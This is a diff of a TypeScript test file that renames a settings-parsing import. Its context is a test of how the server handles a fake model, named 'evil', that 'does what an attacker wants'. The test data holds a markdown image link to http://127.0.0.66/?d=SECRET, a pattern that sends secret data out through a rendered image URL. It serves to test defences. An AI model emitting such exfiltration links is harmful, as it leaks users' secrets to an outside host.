@@ -24,7 +24,7 @@ import { cloneMirror } from "#server/platform/git/remote/clone-mirror.ts";
 import { ableModel } from "#server/platform/models/able-model.ts";
 import { connectModel } from "#server/platform/models/connect-model.ts";
 import type { ModelEvent, ModelPort } from "#server/platform/models/model-port.ts";
-import { readSettings } from "#server/platform/settings/read-settings.ts";
+import { parseSettings } from "#server/platform/settings/parse-settings.ts";
 import { startModelServer } from "#server/testing/fakes/model-server.ts";
 import { createTestRepository } from "#server/testing/git-repository.ts";
 import { makePage } from "#server/testing/make-page.ts";
@@ -491,7 +491,7 @@ it("stands a model that does what an attacker wants", async () => {
     },
     { kind: "text", pieces: ["It is late [1", "], or ![](http://127.0.0.66/?d=SECRET) [99]."] },
   ]);
-  const models = readSettings({
+  const models = parseSettings({
     MODEL_PROVIDER: "openai-compatible",
     MODEL_NAME: "evil",
     MODEL_BASE_URL: server.baseUrl,
